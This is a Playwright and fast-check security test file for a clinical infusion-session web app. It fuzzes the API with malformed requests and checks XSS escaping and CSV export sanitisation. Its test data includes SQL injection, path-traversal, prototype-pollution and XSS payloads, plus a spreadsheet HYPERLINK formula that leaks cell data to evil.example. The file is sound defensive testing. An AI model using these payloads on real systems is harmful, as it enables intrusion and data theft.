import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import fc from "fast-check";
import type { Role } from "../lib/permissions";
import { apiAs, baseURL, loginAs, newChair, USERS } from "./fixtures";
import { cloneUser, demoIds, e2eDb } from "./db-probe";
import { API_POLICY, fillPath, rolesFor, type Ids } from "./route-policy";

/**
 * Bad input (docs/SECURITY.md): fast-check generates >= 10,000 malformed and hostile requests across
 * every mutating API route, sent as a role that passes the permission check so that only
 * validation stands between the payload and the database. Expected: no 5xx, and no invalid
 * row stored. Then XSS and CSV formula injection through the real pages and export.
 */
test.describe.configure({ mode: "serial" });

const db = e2eDb();
const RUN = Date.now().toString(36);
/** Every generated text carries this marker, so stored fuzz text can be found afterwards. */
const MARK = `FZ${RUN}`;
const TOTAL = Number(process.env.FUZZ_PAYLOADS ?? 10_500);
const CONCURRENCY = 12;
const minutesAgo = (m: number) => new Date(Date.now() - m * 60_000).toISOString();

let ids: Ids;
const ctxs: Partial<Record<Role | "self", APIRequestContext>> = {};
let clinicRow: unknown;

test.beforeAll(async () => {
  test.setTimeout(120_000);
  ids = await demoIds(db);
  const self = await cloneUser(db, USERS.nurse);
  [ctxs.NURSE, ctxs.PHYSICIAN, ctxs.ADMIN, ctxs.self] = await Promise.all([
    apiAs(baseURL(), USERS.nurse), apiAs(baseURL(), USERS.physician), apiAs(baseURL(), USERS.admin), apiAs(baseURL(), self.email),
  ]);
  // A patient, series and session of the fuzz run's own, so accepted writes touch no demo chart.
  const nurse = ctxs.NURSE!;
  const patient = (await (await nurse.post("/api/patients", { data: {
    mrn: `FZ-${RUN}`.toUpperCase(), givenName: "Fuzz", familyName: "Target", birthDate: "1975-05-05", sex: "FEMALE", weightKg: 70, consentOnFile: true,
    screening: { substanceMisuse: false, psychosis: false, cardiovascular: false, hepatic: false, interactingMeds: false } } })).json()).patient;
  const series = await ctxs.PHYSICIAN!.post(`/api/patients/${patient.id}/series`, {
    data: { protocolVersionId: ids.protocolVersionId, plannedSessions: 3, startDate: new Date().toISOString().slice(0, 10) } });
  expect(series.status()).toBe(201);
  const seriesId = (await series.json()).series.id;
  const started = await nurse.post(`/api/series/${seriesId}/sessions`, { data: { ...{ weightKg: 70, concentrationMgPerMl: 1, consentConfirmed: true, screeningReviewed: true }, chairId: (await newChair(ctxs.ADMIN!)).id } });
  expect(started.status()).toBe(201);
  const sessionId = (await started.json()).session.id;
  const v = await nurse.post(`/api/sessions/${sessionId}/vitals`, { data: { at: minutesAgo(0), systolicMmHg: 120, diastolicMmHg: 80, heartRatePerMin: 70, spo2Pct: 88, respRatePerMin: 14 } });
  const charted = await v.json();
  ids = { ...ids, patientId: patient.id, seriesId, sessionId, vitalsId: charted.vitals.id, flagId: charted.flags[0]?.id ?? ids.flagId };
  clinicRow = (await db.query(`SELECT row_to_json(c) AS r FROM "Clinic" c WHERE name = 'Demo Pain Clinic'`)).rows[0].r;
});

test.afterAll(async () => {
  // Accepted clinic-settings fuzz must not change the idle time for the specs that follow.
  if (clinicRow) {
    const cols = (await db.query<{ c: string }>(`SELECT column_name AS c FROM information_schema.columns WHERE table_name = 'Clinic' AND column_name <> 'id'`))
      .rows.map((r) => `"${r.c}"`);
    await db.query(`UPDATE "Clinic" c SET (${cols.join(", ")}) = (SELECT ${cols.map((x) => `r.${x}`).join(", ")})
                      FROM json_populate_record(NULL::"Clinic", $1::json) r WHERE c.id = r.id`, [JSON.stringify(clinicRow)]);
  }
  await Promise.all(Object.values(ctxs).map((c) => c?.dispose()));
  await db.end();
});

// ---- generators -------------------------------------------------------------------------

const hostileText = fc.oneof(
  fc.constantFrom(
    "", " ", "\u202Eevil\u202C gnp.exe", "مرحبا بالعالم \u200F", "שלום", "💉😀👨‍👩‍👧🏳️‍🌈", "Z̷̢͎a̸l̵g̶o̴", "\uFEFFbom", "\uD800", "\u0000", "\u0007bell",
    "'; DROP TABLE \"Patient\"; --", "1 OR 1=1", "\" OR \"\"=\"", "$where", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "javascript:alert(1)", "${7*7}", "{{7*7}}", "NaN", "Infinity", "-Infinity", "1e309", "-0", "0x10", "null", "undefined", "true",
    "../../etc/passwd", "%00", "=HYPERLINK(\"http://x\",\"y\")", "2026-02-30", "2026-13-01", "9999-12-31T23:59:59Z", "0000-01-01",
    "+275760-09-13T00:00:00.001Z", "-271821-04-20T00:00:00Z", "2026-01-01T00:00:00", "1970-01-01T00:00:00Z", "2100-12-31T23:59:59+14:00",
  ),
  fc.string({ maxLength: 40 }).map((s) => MARK + s),
  fc.string({ unit: "grapheme", maxLength: 30 }).map((s) => MARK + s),
  fc.string({ unit: "binary", maxLength: 30 }).map((s) => MARK + s),
  fc.constantFrom(`${MARK}${"x".repeat(5_000)}`, `${MARK}${"é".repeat(40_000)}`),
);
const hostileNumber = fc.oneof(
  fc.constantFrom(-1, 0, -0.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER, 2 ** 31, -(2 ** 31) - 1, 1e-7, 1.23456789, 101, 1000, 99_999_999, 4.5),
  fc.double(), fc.integer(), fc.integer({ min: -1000, max: 1000 }),
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText, hostileNumber,
  fc.constantFrom(null, true, false, [], {}, [1, 2], { $ne: null }, { $gt: "" }, [[[[[[]]]]]]),
  fc.array(hostileText, { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), hostileText, { maxKeys: 3 }),
);
const hostileKey = fc.oneof(fc.constantFrom("__proto__", "constructor", "prototype", "$where", "id", "clinicId", "enteredById", "isAdmin", "role", ""), fc.string({ maxLength: 12 }));
const badIdempotencyKey = fc.oneof(
  fc.constantFrom("", "short", "a".repeat(129), "has space 12345", "../../../etc", "<script>12345", "a;b=c12345", "' OR 1=1 --", "%00%0a%0d1234"),
  // (header values are printable ASCII on the wire; anything else never reaches the server)
  fc.string({ maxLength: 200 }).filter((s) => !/^[A-Za-z0-9_.:-]{8,128}$/.test(s) && /^[\x21-\x7e]([\x20-\x7e]*[\x21-\x7e])?$/.test(s)),
);
const badContentType = fc.constantFrom(
  "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "application/jsonp",
  "application/javascript", "text/json", "", "*/*", "application/json-patch+json",
);
const badJsonText = fc.oneof(
  fc.constantFrom("{", "{\"a\":", "[1,2", "{\"a\":1}{\"b\":2}", "NaN", "Infinity", "undefined", "{'a':1}", "{a:1}", "\uFEFF{}", "", " ",
    "{\"__proto__\":{\"isAdmin\":true},\"x\":1}", "{\"a\":1,\"a\":2}", `${"[".repeat(20_000)}${"]".repeat(20_000)}`, `{"x":"\\ud800"}`),
  fc.string({ maxLength: 200 }),
);

type Case = { kind: string; headers: Record<string, string>; body: string | Buffer };

/** One malformed request for a route whose valid body is `base`. */
function caseFor(base: Record<string, unknown> | undefined): fc.Arbitrary<Case> {
  const json = (_body: unknown): Record<string, string> => ({ "content-type": "application/json" });
  const b = base ?? {};
  const fields = Object.keys(b);
  const replace = fields.length
    ? fc.record({ picks: fc.uniqueArray(fc.constantFrom(...fields), { minLength: 1, maxLength: fields.length }), values: fc.array(hostileValue, { minLength: fields.length, maxLength: fields.length }) })
        .map(({ picks, values }) => {
          const body = { ...b };
          picks.forEach((f, i) => { body[f] = values[i]; });
          return { kind: "field-replace", headers: json(body), body: JSON.stringify(body) };
        })
    : fc.constant({ kind: "field-replace", headers: json({}), body: "{\"x\":1}" });
  return fc.oneof(
    { weight: 6, arbitrary: replace },
    { weight: 2, arbitrary: fc.tuple(hostileKey, hostileValue).map(([k, v]) => {
      const raw = JSON.stringify(b).replace(/^\{/, `{${JSON.stringify(k)}:${JSON.stringify(v) ?? "null"}${fields.length ? "," : ""}`);
      return { kind: "unknown-field", headers: json(null), body: raw };
    }) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...(fields.length ? fields : ["x"])), hostileValue).map(([drop, v]) => {
      const body: Record<string, unknown> = { ...b, [`${drop}_`]: v };
      delete body[drop];
      return { kind: "drop-field", headers: json(body), body: JSON.stringify(body) };
    }) },
    { weight: 1, arbitrary: hostileValue.map((v) => ({ kind: "whole-body", headers: json(v), body: JSON.stringify(v) ?? "null" })) },
    { weight: 1, arbitrary: badJsonText.map((t) => ({ kind: "bad-json", headers: json(null), body: t })) },
    { weight: 1, arbitrary: badContentType.map((ct): Case => ({ kind: "content-type", headers: ct ? { "content-type": ct } : {}, body: JSON.stringify(b) })) },
    { weight: 1, arbitrary: fc.integer({ min: 65 * 1024, max: 300 * 1024 }).map((n) => ({
      kind: "oversized", headers: json(null), body: JSON.stringify({ ...b, pad: `${MARK}${"p".repeat(n)}` }) })) },
    { weight: 1, arbitrary: badIdempotencyKey.map((k) => ({ kind: "idempotency-key", headers: { ...json(b), "idempotency-key": k }, body: JSON.stringify(b) })) },
  );
}

// ---- the run ----------------------------------------------------------------------------

type Outcome = { route: string; kind: string; status: number; ms: number; ids: string[] };

function collectIds(v: unknown, out: string[] = []): string[] {
  if (Array.isArray(v)) v.forEach((x) => collectIds(x, out));
  else if (v && typeof v === "object")
    for (const [k, x] of Object.entries(v)) {
      if (k === "id" && typeof x === "string") out.push(x);
      // a protocol's versions are part of its own audit row, not rows of their own
      else if (k !== "versions") collectIds(x, out);
    }
  return out;
}

test("10,000+ generated hostile payloads across every mutating route: no 5xx, no invalid row", async () => {
  test.setTimeout(600_000);
  const routes = Object.entries(API_POLICY).filter(([k, p]) => k.startsWith("POST ") && p.permission !== "public");
  expect(routes.length).toBeGreaterThan(20);
  const perRoute = Math.ceil(TOTAL / routes.length);
  const jobs: { route: string; url: string; ctx: APIRequestContext; c: Case; readOnly: boolean }[] = [];
  routes.forEach(([key, policy], i) => {
    const role = (["NURSE", "PHYSICIAN", "ADMIN"] as Role[]).find((r) => rolesFor(policy.permission).includes(r))!;
    // The own-password change runs as a throwaway user: an accidentally valid change locks out no demo account.
    const ctx = key === "POST /api/account/password" ? ctxs.self! : ctxs[role]!;
    const url = fillPath(key.slice(5), ids);
    const base = policy.body?.(ids) as Record<string, unknown> | undefined;
    for (const c of fc.sample(caseFor(base), { numRuns: perRoute, seed: 7_000 + i }))
      jobs.push({ route: key, url, ctx, c, readOnly: !!policy.readOnly });
  });

  const outcomes: Outcome[] = [];
  let transportRetries = 0;
  const started = Date.now();
  let next = 0;
  await Promise.all(Array.from({ length: CONCURRENCY }, async () => {
    while (next < jobs.length) {
      const job = jobs[next++]!;
      const t0 = Date.now();
      const send = () => job.ctx.fetch(job.url, { method: "POST", headers: job.c.headers, data: job.c.body, maxRedirects: 0, failOnStatusCode: false });
      // A server that answers 413 before reading a large body closes that connection; the
      // client may already be reusing it (ECONNRESET). That is transport, not an answer: retry once.
      const res = await send().catch(() => { transportRetries++; return send(); });
      const status = res.status();
      let created: string[] = [];
      if (status >= 200 && status < 300 && !job.readOnly) created = collectIds(await res.json().catch(() => null));
      else await res.body().catch(() => null);
      outcomes.push({ route: job.route, kind: job.c.kind, status, ms: Date.now() - t0, ids: created });
    }
  }));
  const seconds = (Date.now() - started) / 1000;

  const fiveXX = outcomes.filter((o) => o.status >= 500);
  const byStatus: Record<string, number> = {};
  for (const o of outcomes) byStatus[o.status] = (byStatus[o.status] ?? 0) + 1;
  const byKind: Record<string, number> = {};
  for (const o of outcomes) byKind[o.kind] = (byKind[o.kind] ?? 0) + 1;

  // ---- what reached the database ----
  const invalid = (await db.query<{ what: string; n: number }>(`
    SELECT 'vitals out of bounds or diastolic >= systolic' AS what, count(*)::int AS n FROM "VitalSigns"
     WHERE "spo2Pct" NOT BETWEEN 50 AND 100 OR "diastolicMmHg" >= "systolicMmHg" OR "systolicMmHg" NOT BETWEEN 40 AND 300
        OR "diastolicMmHg" NOT BETWEEN 20 AND 200 OR "heartRatePerMin" NOT BETWEEN 20 AND 250 OR "respRatePerMin" NOT BETWEEN 0 AND 80
        OR "temperatureDeciC" NOT BETWEEN 300 AND 450 OR "sedationRass" NOT BETWEEN -5 AND 4
    UNION ALL SELECT 'dose event with a negative or absurd rate/bolus', count(*)::int FROM "DoseEvent"
     WHERE "rateUgPerKgPerH" <= 0 OR "rateUgPerKgPerH" > 10000 OR "bolusUg" <= 0 OR "bolusUg" > 2000000
    UNION ALL SELECT 'pain score outside its scale', count(*)::int FROM "PainScore"
     WHERE score < 0 OR (scale = 'NRS' AND score > 10) OR score > 100
    UNION ALL SELECT 'side effect severity outside 0-3', count(*)::int FROM "SideEffect" WHERE severity NOT BETWEEN 0 AND 3
    UNION ALL SELECT 'session weight/concentration outside bounds', count(*)::int FROM "InfusionSession"
     WHERE "weightG" NOT BETWEEN 2000 AND 400000 OR "concentrationUgPerMl" NOT BETWEEN 10 AND 100000
    UNION ALL SELECT 'session opened after its chart was, or more than 7 days before', count(*)::int FROM "InfusionSession"
     WHERE "openedAt" > "enteredAt" + interval '2 minutes' OR "openedAt" < "enteredAt" - interval '7 days'
    UNION ALL SELECT 'patient birth date outside 1900-2100 or weight out of bounds', count(*)::int FROM "Patient"
     WHERE "birthDate" NOT BETWEEN '1900-01-01' AND '2100-12-31' OR "weightG" NOT BETWEEN 2000 AND 400000
    UNION ALL SELECT 'series with absurd plan', count(*)::int FROM "Series" WHERE "plannedSessions" NOT BETWEEN 1 AND 60
    UNION ALL SELECT 'clinic idle sign-out outside 5-60 min', count(*)::int FROM "Clinic" WHERE "idleSignOutMin" NOT BETWEEN 5 AND 60
  `)).rows.filter((r) => r.n > 0);

  // Stored text carrying the marker: only where a free-text field accepted it, and then clean.
  const textCols = (await db.query<{ t: string; c: string }>(`
    SELECT table_name AS t, column_name AS c FROM information_schema.columns
     WHERE table_schema = 'public' AND data_type IN ('text', 'character varying') AND table_name NOT IN ('IdempotencyRecord', '_prisma_migrations')`)).rows;
  const stored: { table: string; column: string; value: string }[] = [];
  for (const { t, c } of textCols) {
    const r = await db.query<{ v: string }>(`SELECT "${c}" AS v FROM "${t}" WHERE "${c}" LIKE '%' || $1 || '%'`, [MARK]);
    for (const row of r.rows) stored.push({ table: t, column: c, value: row.v });
  }
  const FREE_TEXT = new Set(["reason", "overrideReason", "backTimeReason", "correctionReason", "note", "text", "dischargeNote", "ackReason",
    "givenName", "familyName", "allergies", "screeningNotes", "name", "indication", "sourceDocument", "sourceWording", "limitRationale", "screeningOverrideReason",
    "lateEntryReason", "weightConfirmReason", "concentrationReason", "concentrationOverrideReason"]);
  // a monitor's identifier is what the device sends: printable ASCII only (lib/validation/devices.ts)
  const IDENTIFIER = new Set(["identifier"]);
  const badText = stored.filter((s) =>
    (IDENTIFIER.has(s.column) && !/^[\x20-\x7e]+$/.test(s.value)) ||
    (!FREE_TEXT.has(s.column) && !IDENTIFIER.has(s.column)) || s.value.length > 5000 || s.value !== s.value.trim() || /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/.test(s.value));

  // Every accepted write left its audit row (same transaction: both or neither); a protocol's
  // first version is recorded inside the protocol.create event.
  const createdIds = [...new Set(outcomes.flatMap((o) => o.ids))];
  const unaudited = createdIds.length
    ? (await db.query<{ id: string }>(`SELECT u.rid AS id FROM unnest($1::text[]) AS u(rid) WHERE NOT EXISTS (SELECT 1 FROM "AuditEvent" a WHERE a."entityId" = u.rid OR a.after::text LIKE '%' || u.rid || '%')`, [createdIds])).rows
    : [];
  const accepted = outcomes.filter((o) => o.status >= 200 && o.status < 300).length;

  const summary = {
    generatedAt: new Date().toISOString(), payloads: outcomes.length, routes: routes.length, concurrency: CONCURRENCY, seconds,
    requestsPerSecond: Math.round(outcomes.length / seconds), transportRetries, responses5xx: fiveXX.length, byStatus, byKind, accepted,
    invalidRows: invalid.reduce((n, r) => n + r.n, 0), invalid, storedMarkerTexts: stored.length, badStoredTexts: badText.length,
    acceptedRecordIds: createdIds.length, acceptedWithoutAudit: unaudited.length,
    fiveXXSamples: fiveXX.slice(0, 10), unaudited: unaudited.slice(0, 10), badTextSamples: badText.slice(0, 5).map((b) => ({ ...b, value: b.value.slice(0, 80) })),
  };
  mkdirSync("test-results", { recursive: true });
  writeFileSync(path.join("test-results", "fuzz.json"), JSON.stringify(summary, null, 2));
  console.log(`[fuzz] ${summary.payloads} payloads over ${summary.routes} routes in ${seconds.toFixed(1)} s (${summary.requestsPerSecond}/s, ${transportRetries} connection resets retried); ` +
    `5xx ${summary.responses5xx}; accepted ${accepted}; invalid rows ${summary.invalidRows}; stored marker texts ${stored.length} (bad ${badText.length}); ` +
    `accepted records without audit ${unaudited.length}; statuses ${JSON.stringify(byStatus)}`);

  expect(outcomes.length).toBeGreaterThanOrEqual(Math.min(TOTAL, 10_000)); // FUZZ_PAYLOADS lowers it only for local iteration
  expect(fiveXX, "responses >= 500").toEqual([]);
  expect(invalid, "invalid rows stored").toEqual([]);
  expect(badText, "fuzz text stored outside a free-text field or unclean").toEqual([]);
  expect(unaudited, "accepted writes without an audit row").toEqual([]);
});

// ---- query strings of the read routes ---------------------------------------------------

/** GET routes that take a query string (the rest take none): hostile values for each key. */
const QUERY_ROUTES: Record<string, string[]> = {
  "/api/admin/access-log": ["patientId", "userId", "from", "to", "cursor", "limit"],
};

test("generated hostile query strings on the read routes: 4xx or 2xx, never 5xx", async () => {
  test.setTimeout(300_000);
  const admin = ctxs.ADMIN!;
  const queryValue = fc.oneof(hostileText, hostileNumber.map(String), fc.constantFrom("9".repeat(40), "1e5", "0", "-5", "2026-01-01T00:00:00Z"));
  const outcomes: { url: string; status: number }[] = [];
  for (const [route, keys] of Object.entries(QUERY_ROUTES)) {
    const cases = fc.sample(fc.dictionary(fc.oneof(fc.constantFrom(...keys), hostileKey), queryValue, { minKeys: 1, maxKeys: 4 }), { numRuns: 300, seed: 9_100 });
    for (const q of cases) {
      const url = `${route}?${new URLSearchParams(q as Record<string, string>).toString()}`;
      const res = await admin.get(url, { maxRedirects: 0, failOnStatusCode: false });
      outcomes.push({ url: url.slice(0, 200), status: res.status() });
    }
  }
  console.log(`[fuzz] ${outcomes.length} query strings; statuses ${JSON.stringify(outcomes.reduce<Record<number, number>>((m, o) => ({ ...m, [o.status]: (m[o.status] ?? 0) + 1 }), {}))}`);
  expect(outcomes.filter((o) => o.status >= 500), "responses >= 500").toEqual([]);
  expect(outcomes.some((o) => o.status === 400)).toBe(true);
});

// ---- XSS and CSV injection --------------------------------------------------------------

const XSS_GIVEN = "<img src=x onerror=alert(1)>";
const XSS_FAMILY = "<script>alert(2)</script>";

async function noDialogs(page: Page) {
  const dialogs: string[] = [];
  page.on("dialog", async (d) => { dialogs.push(d.message()); await d.dismiss(); });
  return dialogs;
}

test("hostile names render as text on the patient and session pages; no script runs", async ({ page }) => {
  const nurse = ctxs.NURSE!;
  const created = await nurse.post("/api/patients", { data: {
    mrn: `XSS-${RUN}`.toUpperCase(), givenName: XSS_GIVEN, familyName: XSS_FAMILY, birthDate: "1980-01-01", sex: "OTHER", weightKg: 70, consentOnFile: true,
    allergies: "<svg onload=alert(3)>", screening: { substanceMisuse: false, psychosis: false, cardiovascular: false, hepatic: false, interactingMeds: false } } });
  expect(created.status()).toBe(201);
  const patient = (await created.json()).patient;
  expect(patient.givenName).toBe(XSS_GIVEN); // stored as typed: escaping is the renderer's job
  const series = await ctxs.PHYSICIAN!.post(`/api/patients/${patient.id}/series`, {
    data: { protocolVersionId: ids.protocolVersionId, plannedSessions: 2, startDate: new Date().toISOString().slice(0, 10) } });
  const seriesId = (await series.json()).series.id;
  const session = await nurse.post(`/api/series/${seriesId}/sessions`, { data: { ...{ weightKg: 70, concentrationMgPerMl: 1, consentConfirmed: true, screeningReviewed: true }, chairId: (await newChair(ctxs.ADMIN!)).id } });
  const sessionId = (await session.json()).session.id;
  await nurse.post(`/api/sessions/${sessionId}/side-effects`, { data: { at: minutesAgo(0), kind: "DISSOCIATION", severity: 1, note: "<iframe src=javascript:alert(4)>" } });

  const dialogs = await noDialogs(page);
  await loginAs(page, USERS.nurse);
  for (const url of [`/patients/${patient.id}`, `/sessions/${sessionId}`, "/patients", "/"]) {
    await page.goto(url);
    await page.waitForLoadState("networkidle");
    await expect(page.getByText(XSS_GIVEN, { exact: false }).first(), url).toBeVisible();
    expect(await page.locator("img[src='x']").count(), `${url}: injected <img> element`).toBe(0);
    expect(await page.locator("script:text('alert(2)')").count(), `${url}: injected <script> element`).toBe(0);
  }
  await page.goto(`/sessions/${sessionId}`);
  await expect(page.getByText("<iframe src=javascript:alert(4)>").first()).toBeVisible();
  expect(await page.locator("iframe").count()).toBe(0);
  await page.waitForTimeout(300);
  expect(dialogs, "alert() dialogs fired").toEqual([]);
});

test("the CSV export neutralises a formula in a patient's name", async () => {
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
  const created = await ctxs.NURSE!.post("/api/patients", { data: {
    mrn: `CSV-${RUN}`.toUpperCase(), givenName: "+SUM(1,2)", familyName: formula, birthDate: "1980-01-01", sex: "OTHER", weightKg: 70, consentOnFile: true,
    screening: { substanceMisuse: false, psychosis: false, cardiovascular: false, hepatic: false, interactingMeds: false } } });
  expect(created.status()).toBe(201);
  const patient = (await created.json()).patient;
  const series = await ctxs.PHYSICIAN!.post(`/api/patients/${patient.id}/series`, {
    data: { protocolVersionId: ids.protocolVersionId, plannedSessions: 2, startDate: new Date().toISOString().slice(0, 10) } });
  const seriesId = (await series.json()).series.id;
  expect((await ctxs.NURSE!.post(`/api/series/${seriesId}/sessions`, { data: { ...{ weightKg: 70, concentrationMgPerMl: 1, consentConfirmed: true, screeningReviewed: true }, chairId: (await newChair(ctxs.ADMIN!)).id } })).status()).toBe(201);
  const csv = await ctxs.ADMIN!.get(`/api/exports/sessions?format=csv&status=all&patientId=${patient.id}`);
  expect(csv.status()).toBe(200);
  const text = await csv.text();
  expect(text).toContain("HYPERLINK");
  // Every field that holds the name starts with an apostrophe inside its quotes: text, not a formula.
  for (const line of text.split(/\r?\n/).slice(1).filter(Boolean)) {
    expect(line).not.toMatch(/(^|,)"?[=+@]/);
    expect(line).not.toMatch(/(^|,)"?-(?!\d)/);
  }
  expect(text).toMatch(/"'=HYPERLINK\(""http:\/\/evil\.example/);
});
